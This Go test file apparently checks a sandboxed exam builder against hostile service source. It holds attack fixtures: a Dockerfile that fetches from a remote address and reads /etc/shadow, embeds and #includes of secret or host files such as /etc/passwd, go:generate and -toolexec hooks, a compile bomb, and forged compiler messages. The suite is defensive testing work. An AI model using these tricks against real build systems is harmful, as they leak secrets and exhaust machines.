package hostile

import (
	"fmt"
	"strings"
)

// Defences of the build.
var (
	offline  = absent("no network, no proxy", "the builder has no network at all; what it would ask is in the image")
	buildEnv = func(name, value string) *Defence {
		return off("builds with the image's own settings ("+name+")", buildFile,
			"\t\tDir:   image.SourceDir,\n", "\t\tDir:   image.SourceDir,\n\t\tEnv: map[string]string{\""+name+"\": \""+value+"\"},\n")
	}
	onlyCompiles = absent("nothing but go build is run", "no other command stands in the source")
	goOnly       = absent("no other compiler", "the builder image holds the go command and nothing else that compiles")
	noHostPaths  = absent("no path of the host is in the builder", "only volumes are mounted, see the containers' invariants")
	outputBound  = &Defence{Name: "bounded output of the compiler", Off: []Edit{
		{buildFile, "outputLines = 1000", "outputLines = 1 << 30"},
		{buildFile, "outputSize  = 64 << 10", "outputSize  = 1 << 30"},
	}}
	programBound = off("bounded size of the program", buildFile, "FileSize: programSize}", "FileSize: 1 << 40}")
	buildMax     = absent("bounded time and memory of a build", "without it the compiler takes the whole machine; the report names the bound")
	ownWords     = &Defence{Name: "words of the machine in a candidate's file", Off: []Edit{
		{buildFile, "`^([^\\s:]+: )?([a-z ]+: )*[a-z]+ /go/(cache|pkg/mod)\\S*: read-only file system$`", "`: read-only file system$`"},
		{buildFile, "\tif forged {", "\tif false {"},
	}}
	ownKill = &Defence{Name: "only a tool's end is the machine's", Off: []Edit{
		{buildFile, "`^[^\\s:]+: /usr/local/go/pkg/tool/\\w+/\\w+: signal: killed$`", "`: signal: killed$`"},
		{buildFile, "\tif forged {", "\tif false {"},
	}}
	dotFiles = off("hidden files are not built", buildFile,
		`if name != "." && strings.HasPrefix(d.Name(), ".") {`, `if false {`)
)

// buildCases are group D: what a service's source can do to the build.
func buildCases() []Case {
	failed := func(reason string) Want { return Want{Class: BuildFailed, Reason: reason} }
	usual := Want{Class: AsUsual}
	mod := func(lines string) func(*Tree) { return func(t *Tree) { t.Append("service/go.mod", "\n"+lines+"\n") } }
	extra := func(text string) func(*Tree) { return func(t *Tree) { t.Write("service/extra.go", text) } }
	return []Case{
		{ID: "D toolchain", Threat: "asks for a toolchain to be downloaded and run", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) { t.Replace("service/go.mod", "go 1.26.0", "go 1.99.0\n\ntoolchain go1.99.0") },
			Want: failed("go.mod requires go >= 1.99"), Defence: buildEnv("GOTOOLCHAIN", "auto")},
		{ID: "D new-dependency", Threat: "needs a module that the exam does not have", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) {
				mod("require example.com/evil v1.0.0")(t)
				extra("package main\n\nimport _ \"example.com/evil\"\n")(t)
			}, Want: failed("example.com/evil"), Defence: offline},
		{ID: "D replace-host", Threat: "replaces a module by a directory of the host", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) {
				mod("require stolen v0.0.0\n\nreplace stolen => " + strings.TrimSuffix(t.Canary, "/secret.md"))(t)
				extra("package main\n\nimport _ \"stolen\"\n")(t)
			}, Want: failed("does not exist"), Defence: noHostPaths},
		{ID: "D workspace", Threat: "a workspace that reaches out of the module", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) { t.Write("service/go.work", "go 1.26.0\n\nuse (\n\t.\n\t/etc\n)\n") },
			Want: usual, Defence: buildEnv("GOWORK", "")},
		{ID: "D vendored", Threat: "a vendor directory with a poisoned router", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) {
				t.Write("service/vendor/modules.txt", "# github.com/go-chi/chi/v5 v5.5.0\n## explicit; go 1.23\ngithub.com/go-chi/chi/v5\n")
				t.Write("service/vendor/github.com/go-chi/chi/v5/chi.go", "package chi\n\nfunc init() { panic(\"poisoned\") }\n")
			}, Want: usual, Defence: buildEnv("GOFLAGS", "-mod=vendor")},
		{ID: "D sums", Threat: "checksums of modules that are not those of the exam", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) { t.Replace("service/go.sum", "h1:", "h1:AAAA") },
			Want: failed("checksum mismatch"), Defence: absent("checksums of modules", "the go command checks them itself")},
		{ID: "D cgo", Threat: "C code that includes a secret file", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) {
				t.Service("package main\n\n// #include \"" + t.Canary + "\"\nimport \"C\"\n\nfunc main() {}\n")
			}, Want: failed("build constraints exclude all Go files"), Defence: buildEnv("CGO_ENABLED", "1")},
		{ID: "D assembly", Threat: "assembly that includes a secret file, for the compiler to quote", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) {
				t.Write("service/asm_amd64.s", "#include \""+t.Canary+"\"\n")
				t.Write("service/asm_arm64.s", "#include \""+t.Canary+"\"\n")
			}, Want: failed("asm"), Defence: noHostPaths},
		{ID: "D swig", Threat: "asks for SWIG and a C++ compiler", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) { t.Write("service/x.swigcxx", "%module x\n%{ system(\"id\"); %}\n") },
			Want: failed("does not compile"), Defence: goOnly},
		{ID: "D link-flags", Threat: "flags for the linker from a comment", Base: Strong, Scope: FirstProbe,
			Make: extra("package main\n\n//go:cgo_ldflag \"-fplugin=/src/evil.so\"\n\nvar _ = 1\n"),
			Want: failed("cgo_ldflag"), Defence: onlyCompiles},
		{ID: "D embed", Threat: "embeds files from outside the module", Base: Strong, Scope: FirstProbe,
			Make: extra("package main\n\nimport _ \"embed\"\n\n//go:embed ../../../../etc/passwd\nvar stolen string\n"),
			Want: failed("invalid pattern syntax"), Defence: noHostPaths},
		{ID: "D embed-hidden", Threat: "embeds a hidden file with settings", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) {
				t.Write("service/.secrets", "x")
				extra("package main\n\nimport _ \"embed\"\n\n//go:embed .secrets\nvar stolen string\n")(t)
			}, Want: failed("no matching files found"), Defence: dotFiles},
		{ID: "D generate", Threat: "commands to be run while it is built", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) {
				extra("package main\n\n//go:generate go run ./evil\n")(t)
				t.Write("service/evil/main.go", "package main\n\nfunc main() { panic(\"ran\") }\n")
				t.Write("service/go.env", "GOFLAGS=-toolexec=/src/evil\n")
			}, Want: usual, Defence: onlyCompiles},
		{ID: "D tests", Threat: "tests that attack whoever runs them", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) {
				t.Write("service/evil_test.go", "package main\n\nimport \"testing\"\n\nfunc init() { panic(\"ran\") }\n\n"+
					"func TestMain(m *testing.M) { panic(\"ran\") }\n")
			}, Want: usual, Defence: onlyCompiles},
		{ID: "D dockerfile", Threat: "an own Dockerfile that downloads and runs", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) {
				t.Write("service/Dockerfile", "# syntax=example.com/evil:latest\nFROM example.com/evil\nADD http://192.0.2.1/x /\nRUN --mount=type=bind,source=/,target=/host cat /host/etc/shadow\n")
			}, Want: usual, Defence: absent("Dockerfiles are not read", "there is no code that would")},
		{ID: "D large-program", Threat: "a program of 200 MB", Base: Strong, Scope: FirstProbe,
			Make: extra("package main\n\nvar huge = [200 << 20]byte{1: 1, 200<<20 - 1: 1}\n\nfunc init() { println(huge[len(huge)-1]) }\n"),
			Want: failed("does not compile"), Defence: programBound},
		{ID: "D compile-bomb", Threat: "types that take gigabytes to compile", Base: Strong, Scope: FirstProbe,
			Make: compileBomb, Want: Want{Class: BuildFailed, Reason: "the build "}, Defence: buildMax},
		{ID: "D error-flood", Threat: "four hundred errors with names of three kilobytes", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) {
				// The compiler ends after ten errors of a package.
				long := "//line " + strings.Repeat("x", 3000) + ".go:1\n"
				imports := "package main\n\n"
				for i := range 40 {
					t.Write(fmt.Sprintf("service/p%d/x.go", i),
						fmt.Sprintf("package p%d\n\n", i)+strings.Repeat(long+"var _ int = \"\x1b[31mred\"\n", 10))
					imports += fmt.Sprintf("import _ \"payment-processor/p%d\"\n", i)
				}
				t.Write("service/extra.go", imports)
			}, Want: Want{Class: BuildFailed, Reason: "does not compile", Check: shortOutput}, Defence: outputBound},
		{ID: "D forged-machine", Threat: "source that makes the compiler speak of a broken machine", Base: Strong, Scope: FirstProbe,
			Make: embedding("z: read-only file system"), Want: failed("does not compile"), Defence: ownWords},
		{ID: "D forged-kill", Threat: "a file whose name says that the machine killed the compiler", Base: Strong, Scope: FirstProbe,
			Make: embedding("z: signal: killed"), Want: failed("does not compile"), Defence: ownKill},
	}
}

// embedding takes in a file of that name, at which the go command's line about it ends. Where the line
// stands has a blank.
func embedding(name string) func(*Tree) {
	return func(t *Tree) {
		t.Write("service/x y.go", "package main\n\nimport _ \"embed\"\n\n//go:embed z*\nvar broken string\n")
		t.Write("service/"+name, "x")
	}
}

// compileBomb makes the compiler hold very many instances of a generic type.
func compileBomb(t *Tree) {
	var b strings.Builder
	b.WriteString("package main\n\ntype pair[A, B any] struct {\n\ta A\n\tb B\n}\n\ntype p0 = pair[int, string]\n")
	for i := range 24 {
		fmt.Fprintf(&b, "\ntype p%d = pair[p%d, pair[p%d, int]]\n", i+1, i, i)
	}
	b.WriteString("\nvar bomb p24\n\nfunc init() { println(&bomb) }\n")
	t.Write("service/extra.go", b.String())
}

// shortOutput wants the report to hold no more of the compiler's words than is agreed.
func shortOutput(s *Seen) error {
	for _, n := range s.Report.Notices {
		if len(n.Output) > 64<<10 {
			return fmt.Errorf("a notice holds %d bytes of output", len(n.Output))
		}
	}
	return nil
}
